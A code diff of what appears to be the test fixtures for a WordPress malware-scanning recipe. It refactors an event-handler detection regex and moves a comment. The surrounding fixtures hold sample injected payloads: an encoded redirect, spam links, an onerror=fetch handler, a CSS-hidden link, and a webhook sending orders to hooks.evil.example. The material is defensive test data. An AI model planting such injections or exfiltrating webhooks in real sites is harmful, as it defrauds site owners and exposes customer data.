@@ -94,6 +94,8 @@ const INJECTED_WIDER = {
   atobMeta: {post: 2, key: '_wpc_head_js', value: 'var u = atob("aHR0cHM6Ly9zcGFtLmV4YW1wbGUv"); location = u;'},
   writeOption: {name: 'wpc_ads', value: 'document.write("<a href=https://spam.example/>watches</a>")'},
 };
+/** The content pattern's event-handler alternative, as the page prints it: the proofs take it out or swap it. */
+const HANDLER_PATTERN = '|(^|[^[:alnum:]_-])on[a-z]+[[:space:]]*=';
 /** Handlers the searches missed (review r76b F1): one stuck to a quoted attribute, and an entity without its semicolon. */
 const INJECTED_DISGUISED = {
   quotedHandler: {name: 'wpc_badge', value: '<img src="x"onerror=fetch(1)>'},
@@ -158,12 +160,12 @@ const ESCAPED_YML = {shown: 'wp-cli^[[2K.yml', written: String.raw`wp-cli\e[2K.y
  */
 const SHOP_KEY = {description: 'Shipping sync', permissions: 'read_write'};
 const SHOP_WEBHOOK = {name: 'Order sync', url: 'https://hooks.evil.example/orders'};
-/** A spam page with no script in it (review r54 LOW 7): only the query of recent changes finds it, first. */
 /** A link hidden by CSS, added to an old page straight in the table, so its change date stays (review r79b M1). */
 const HIDDEN_SPAM = {
   page: 'Our team',
   link: '<div style="position:absolute;left:-9999px"><a href="https://pills.example/">pills</a></div>',
 };
+/** A spam page with no script in it (review r54 LOW 7): only the query of recent changes finds it, first. */
 const SPAM_PAGE = 'Cheap watches';
 /** A spam page given an old date, which WordPress also gives it as its change date (review r63b M3). */
 const BACKDATED_PAGE = 'Cheap pills';
@@ -1229,7 +1231,7 @@ export const wordpressSecurityRecipe: Recipe = {
     {
       what: 'search for script elements only, not event-handler attributes (the pattern before review r52)',
       ref: LOADING_CHECKS,
-      edit: (text) => text.replace('|(^|[^[:alnum:]_-])on[a-z]+[[:space:]]*=', ''),
+      edit: (text) => text.replace(HANDLER_PATTERN, ''),
       expect: /did not find the script injected into post 1, _elementor_data, wpc_footer_code and wpc_header_code/,
     },
     {
@@ -1247,7 +1249,7 @@ export const wordpressSecurityRecipe: Recipe = {
     {
       what: 'search for handlers after a space or a slash only (the pattern before review r76b F1)',
       ref: LOADING_CHECKS,
-      edit: (text) => text.replace('|(^|[^[:alnum:]_-])on[a-z]+[[:space:]]*=', '|<[^>]{0,2000}[[:space:]/]on[a-z]+[[:space:]]*='),
+      edit: (text) => text.replace(HANDLER_PATTERN, '|<[^>]{0,2000}[[:space:]/]on[a-z]+[[:space:]]*='),
       expect: /missed the handler after a quote in wpc_badge, the handler after a > inside a quoted value in wpc_gallery:/,
     },
     {
